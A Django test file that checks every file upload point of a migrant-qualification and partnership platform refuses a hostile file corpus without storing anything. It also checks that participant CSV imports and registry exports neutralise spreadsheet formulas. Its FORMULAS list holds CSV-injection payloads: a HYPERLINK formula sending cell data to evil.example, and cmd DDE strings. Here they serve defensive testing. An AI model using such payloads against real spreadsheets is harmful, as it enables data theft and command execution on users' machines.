"""Every hostile file of the corpus (``tests.hostile_files.CORPUS``) at every upload point, page
and API, as a user allowed to upload there: refused with a message naming the reason, nothing
stored (no row, no file under MEDIA_ROOT), never a server error.

The upload points are found in the code, not listed by hand: every page whose view reads
``request.FILES`` (the URL resolver), every API operation with a multipart body (the OpenAPI
schema) and every view taking a file parser. One missing from ``POINTS`` fails the inventory
test, so a new upload point cannot escape the corpus.
"""

from __future__ import annotations

import csv
import functools
import html
import inspect
import io
import re
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.contrib import admin
from django.contrib.admin.options import InlineModelAdmin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db.models import FileField as ModelFileField
from django.db.models import Model
from django.forms import BaseForm, FileField
from django.http import HttpRequest, HttpResponse
from django.test import Client, RequestFactory
from django.urls import URLPattern, URLResolver, get_resolver, path, reverse
from drf_spectacular.generators import SchemaGenerator
from rest_framework.parsers import FileUploadParser, FormParser, MultiPartParser
from rest_framework.test import APIClient

from accounts.models import User
from migrants.models import QualificationDocument
from migrants.tests.factories import counsellor, migrant_with_profile, qualification
from migrants.tests.factories import registered_in_person as registered_by
from partnerships.models import Partnership, PartnershipDocument
from partnerships.tests.factories import government_officer_of, make_partnership
from tests import hostile_files as hostile
from tests.test_route_inventory import _routes
from training.imports import COLUMNS, EXAMPLE_ROW
from training.models import ParticipantImport
from training.tests.factories import make_cohort, make_setting


@dataclass
class Reach:
    """How an allowed user reaches one upload point: where to post, and the other fields."""

    user: User
    url: str
    file_field: str = "file"
    fields: dict[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class Point:
    """One upload point. ``route``: the URL name of a page, or "METHOD /api/path" as in the
    schema; ``kind``: what it takes ("scans", "documents" or "participants"); ``stored``: the
    model whose rows an accepted upload creates."""

    name: str
    route: str
    kind: str
    stored: type[Model]
    reach: Callable[[], Reach]

    @property
    def api(self) -> bool:
        return self.route.startswith("POST /api/")


def _own_qualification() -> tuple[User, Any]:
    user, profile = migrant_with_profile()
    return user, qualification(user, profile, title="Diploma", institution="OFPPT", isced_level=5)


def _counselled_qualification() -> tuple[User, Any]:
    staff = counsellor()
    profile = registered_by(staff)
    return staff, qualification(staff, profile, title="Diploma", isced_level=5)


def _own_page() -> Reach:
    user, q = _own_qualification()
    url = reverse("migrants:own-document-upload", args=[q.pk])
    return Reach(user, url, file_field=f"doc{q.pk}-file")


def _own_api() -> Reach:
    user, q = _own_qualification()
    return Reach(user, f"/api/v1/migrants/me/qualifications/{q.pk}/documents/")


def _counsellor_page() -> Reach:
    staff, q = _counselled_qualification()
    url = reverse("migrants:document-upload", kwargs={"pk": q.profile_id, "qualification_pk": q.pk})
    return Reach(staff, url, file_field=f"doc{q.pk}-file")


def _counsellor_api() -> Reach:
    staff, q = _counselled_qualification()
    url = f"/api/v1/migrants/profiles/{q.profile_id}/qualifications/{q.pk}/documents/"
    return Reach(staff, url)


def _partnership_page() -> Reach:
    officer = government_officer_of("BE")
    url = reverse("partnerships:document-upload", args=[make_partnership(officer).pk])
    fields = {"document-title": "Annex", "document-kind": PartnershipDocument.Kind.ANNEX}
    return Reach(officer, url, file_field="document-file", fields=fields)


def _partnership_api() -> Reach:
    officer = government_officer_of("BE")
    url = f"/api/v1/partnerships/{make_partnership(officer).pk}/documents/"
    return Reach(officer, url, fields={"title": "Annex", "kind": "annex"})


def _import_page() -> Reach:
    setting = make_setting()
    return Reach(setting.staff, reverse("training:import-create", args=[make_cohort(setting).pk]))


def _import_api() -> Reach:
    setting = make_setting()
    return Reach(setting.staff, f"/api/v1/training/cohorts/{make_cohort(setting).pk}/imports/")


QUALIFICATION_API = "POST /api/v1/migrants/{which}/qualifications/{{qualification_id}}/documents/"
POINTS = [
    Point(
        "own-qualification-page",
        "migrants:own-document-upload",
        "scans",
        QualificationDocument,
        _own_page,
    ),
    Point(
        "own-qualification-api",
        QUALIFICATION_API.format(which="me"),
        "scans",
        QualificationDocument,
        _own_api,
    ),
    Point(
        "counsellor-qualification-page",
        "migrants:document-upload",
        "scans",
        QualificationDocument,
        _counsellor_page,
    ),
    Point(
        "counsellor-qualification-api",
        QUALIFICATION_API.format(which="profiles/{id}"),
        "scans",
        QualificationDocument,
        _counsellor_api,
    ),
    Point(
        "partnership-document-page",
        "partnerships:document-upload",
        "documents",
        PartnershipDocument,
        _partnership_page,
    ),
    Point(
        "partnership-document-api",
        "POST /api/v1/partnerships/{id}/documents/",
        "documents",
        PartnershipDocument,
        _partnership_api,
    ),
    Point(
        "participant-import-page",
        "training:import-create",
        "participants",
        ParticipantImport,
        _import_page,
    ),
    Point(
        "participant-import-api",
        "POST /api/v1/training/cohorts/{id}/imports/",
        "participants",
        ParticipantImport,
        _import_api,
    ),
]


# --- The inventory: every upload point in the code has its place in POINTS ----------------------
_FILE_PARSERS = (MultiPartParser, FormParser, FileUploadParser)
_WRITES = {"post", "put", "patch"}


def _source(pattern: URLPattern) -> str:
    view = getattr(pattern.callback, "view_class", None) or inspect.unwrap(pattern.callback)
    try:
        return inspect.getsource(view)
    except (OSError, TypeError):
        return ""


def _takes_files(pattern: URLPattern) -> bool:
    view_class = getattr(pattern.callback, "cls", None) or getattr(
        pattern.callback, "view_class", None
    )
    parsers = getattr(view_class, "parser_classes", ())
    actions = getattr(pattern.callback, "actions", None)  # a viewset's method -> action
    methods = set(actions) if actions else {m for m in _WRITES if hasattr(view_class, m)}
    return bool(methods & _WRITES) and any(issubclass(p, _FILE_PARSERS) for p in parsers)


@functools.cache
def _schema_paths() -> dict[str, Any]:
    generator = SchemaGenerator()
    schema: dict[str, Any] = generator.get_schema(request=None, public=True)
    return schema["paths"]


def upload_pages(resolver: URLResolver | None = None) -> set[str]:
    """The URL names of pages whose view reads uploaded files."""
    return {
        f"{namespace}:{pattern.name}" if namespace else str(pattern.name)
        for _route, pattern, namespace in _routes(resolver or get_resolver())
        if namespace != "admin" and not _route.startswith("api/") and ".FILES" in _source(pattern)
    }


def admin_upload_forms() -> list[str]:
    """The admin site's forms that could take a file: a model with a file field whose admin
    (or inline) may add or change rows. The admin is not an upload point: there must be none."""
    request = RequestFactory().get("/admin/")
    request.user = User(is_staff=True, is_superuser=True, is_active=True)
    found = []
    for model, model_admin in admin.site._registry.items():
        for handler in [model_admin, *(i(model, admin.site) for i in model_admin.inlines)]:
            files = [f for f in handler.model._meta.get_fields() if isinstance(f, ModelFileField)]
            adds = (
                handler.has_add_permission(request, None)
                if isinstance(handler, InlineModelAdmin)
                else handler.has_add_permission(request)
            )
            writes = adds or handler.has_change_permission(request, None)
            if files and writes:
                found.append(f"{model.__name__}: {type(handler).__name__}")
    return found


def upload_operations() -> set[str]:
    """The API operations whose request body is multipart (or a form), as "METHOD /path"."""
    return {
        f"{method.upper()} {path}"
        for path, operations in _schema_paths().items()
        for method, operation in operations.items()
        if {"multipart/form-data", "application/x-www-form-urlencoded"}
        & set(operation.get("requestBody", {}).get("content", {}))
    }


def file_parser_routes() -> set[str]:
    """The API routes whose view parses multipart bodies or raw files, as resolver routes."""
    return {route for route, pattern, _ns in _routes(get_resolver()) if _takes_files(pattern)}


def _as_schema_path(route: str) -> str:
    return "/" + re.sub(r"<(?:\w+:)?(\w+)>", r"{\1}", route).replace("{pk}", "{id}")


@pytest.mark.django_db
def test_every_upload_point_in_the_code_is_in_the_table() -> None:
    pages = {point.route for point in POINTS if not point.api}
    operations = {point.route for point in POINTS if point.api}
    assert upload_pages() == pages
    assert admin_upload_forms() == []
    assert upload_operations() == operations
    assert {f"POST {_as_schema_path(r)}" for r in file_parser_routes()} == operations
    # Every form with a file field is built by one of those pages' views.
    sources = "".join(
        _source(pattern)
        for _route, pattern, ns in _routes(get_resolver())
        if f"{ns}:{pattern.name}" in pages
    )
    forms = [form for form in _subclasses(BaseForm) if _has_file_field(form)]
    assert forms, "the upload forms were not found"
    assert [form.__name__ for form in forms if form.__name__ not in sources] == []
    print(f"\n{len(POINTS)} upload points, {len(hostile.CORPUS)} hostile files: {len(CASES)} cases")


def test_a_new_upload_page_is_caught() -> None:
    def avatar(request: HttpRequest) -> HttpResponse:
        request.FILES.get("avatar")
        return HttpResponse("stored")

    def about(request: HttpRequest) -> HttpResponse:
        return HttpResponse("no files here")

    resolver = URLResolver(
        get_resolver().pattern,
        [path("avatar/", avatar, name="avatar"), path("about/", about, name="about")],
    )
    assert upload_pages(resolver) == {"avatar"}


def _subclasses(cls: type) -> list[type]:
    """The project's own subclasses of ``cls`` (not Django's or a package's)."""
    project = Path(settings.BASE_DIR).resolve()
    found: list[type] = []
    subclasses: list[type] = cls.__subclasses__()
    for sub in subclasses:
        source = Path(inspect.getfile(sub)).resolve()
        if source.is_relative_to(project) and "site-packages" not in source.parts:
            found.append(sub)
        found += _subclasses(sub)
    return found


def _has_file_field(form: type) -> bool:
    return any(isinstance(f, FileField) for f in getattr(form, "base_fields", {}).values())


# --- Every hostile file at every upload point ----------------------------------------------------
CASES = [
    (point, case) for point in POINTS for case in hostile.CORPUS if point.kind in case.refused_at
]
_ERRORS = re.compile(r'<div class="error-summary".*?</div>', re.DOTALL)


def _client(point: Point, user: User) -> Client | APIClient:
    if point.api:
        api = APIClient()
        api.force_authenticate(user)
        return api
    page = Client()
    page.force_login(user)
    return page


def refusal_shown(point: Point, response: Any) -> str:
    """The refusal as the user reads it: the API's error (a refused file, or the file field's
    own check), or the page's error summary."""
    if point.api:
        body = response.json()
        if "field" in body:
            assert body["field"] == "file", body
            return str(body["detail"])
        return " ".join(body["file"])
    summary = _ERRORS.search(response.content.decode())
    return html.unescape(summary.group()) if summary else "(the page shows no error)"


def problems_with(
    point: Point, case: hostile.Hostile, client: Any, reach: Reach, media: Path
) -> list[str]:
    """What went wrong when ``case`` was posted to ``point``: nothing, for a clean refusal."""
    data = {**reach.fields, reach.file_field: case.upload()}
    if point.api:
        response = client.post(reach.url, data, format="multipart")
    else:
        response = client.post(reach.url, data)
    status = response.status_code
    # The API answers 400; a page shows its form again with the error (200, or 400).
    problems = []
    if status != 400 and (point.api or status != 200):
        problems.append(f"answered {status}")
    else:
        refusal = case.refusal_for(point.kind)
        shown = refusal_shown(point, response)
        if refusal not in shown:
            problems.append(f"said {shown!r}, not {refusal!r}")
    if point.stored._default_manager.exists():
        problems.append(f"stored a {point.stored.__name__}")
        point.stored._default_manager.all().delete()
    if stored := hostile.files_under(media):
        problems.append(f"stored {len(stored)} files")
        for path in stored:
            path.unlink()
    return problems


@pytest.mark.django_db
@pytest.mark.parametrize("point", POINTS, ids=[point.name for point in POINTS])
def test_every_hostile_file_is_refused_with_its_reason_and_nothing_is_stored(
    point: Point, private_media: Path
) -> None:
    """Each file of the corpus, posted by a user allowed to upload there: a 400 (or the page
    again) naming the reason, no row, no file; every failure is listed, file by file."""
    reach = point.reach()
    client = _client(point, reach.user)
    failures = {
        case.label: problems
        for candidate, case in CASES
        if candidate is point
        and (problems := problems_with(candidate, case, client, reach, private_media))
    }
    assert failures == {}


def test_the_corpus_is_large_and_every_file_is_labelled() -> None:
    started = time.monotonic()
    labels = [case.label for case in hostile.CORPUS]
    assert len(labels) >= 50 and len(set(labels)) == len(labels) and all(labels)
    contents = {case.build() for case in hostile.CORPUS}
    assert len(contents) >= 50  # distinct files, not one file under many names
    assert time.monotonic() - started < 20


# --- Formulas in participant files and in exports (CSV injection) --------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example?d="&A2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _participants(*rows: dict[str, str]) -> bytes:
    lines = [list(COLUMNS)] + [
        [row.get(c, e) for c, e in zip(COLUMNS, EXAMPLE_ROW, strict=True)] for row in rows
    ]
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(lines)
    return out.getvalue().encode()


def _import(user: User, cohort_pk: int, content: bytes) -> Any:
    client = APIClient()
    client.force_authenticate(user)
    upload = SimpleUploadedFile("people.csv", content)
    return client.post(
        f"/api/v1/training/cohorts/{cohort_pk}/imports/", {"file": upload}, format="multipart"
    )


@pytest.mark.django_db
@pytest.mark.parametrize("value", FORMULAS, ids=["equals", "plus", "minus", "at"])
def test_a_formula_in_a_participant_file_is_refused_naming_its_line_and_column(value: str) -> None:
    setting = make_setting()
    content = _participants({"email": "a@example.org"}, {"family_name": value})
    response = _import(setting.staff, make_cohort(setting).pk, content)
    assert response.status_code == 400
    assert f"Line 3, column family_name begins with “{value[0]}”" in response.json()["detail"]
    assert "formula" in response.json()["detail"]
    assert not ParticipantImport.objects.exists()


@pytest.mark.django_db
def test_phone_numbers_in_e164_form_are_still_imported(commit: Callable[..., Any]) -> None:
    setting = make_setting()
    content = _participants(
        {"phone": "+212612345678", "email": "a@example.org"},
        {"phone": "+32 470 12 34 56", "email": "b@example.org", "given_names": "Youssef"},
    )
    response = commit(_import, setting.staff, make_cohort(setting).pk, content)
    assert response.status_code == 202, response.json()
    checked = ParticipantImport.objects.get()
    assert [(e.line, e.column, e.message) for e in checked.errors.all()] == []
    assert checked.status == ParticipantImport.Status.READY


@pytest.mark.django_db
def test_the_registry_csv_export_writes_stored_formulas_as_text() -> None:
    officer = government_officer_of("BE")
    for title in FORMULAS:
        make_partnership(officer, status=Partnership.Status.ACTIVE, title=title)
    response = Client().get(reverse("registry:export-csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    column = rows[0].index("title")
    assert sorted(row[column] for row in rows[1:]) == sorted("'" + title for title in FORMULAS)
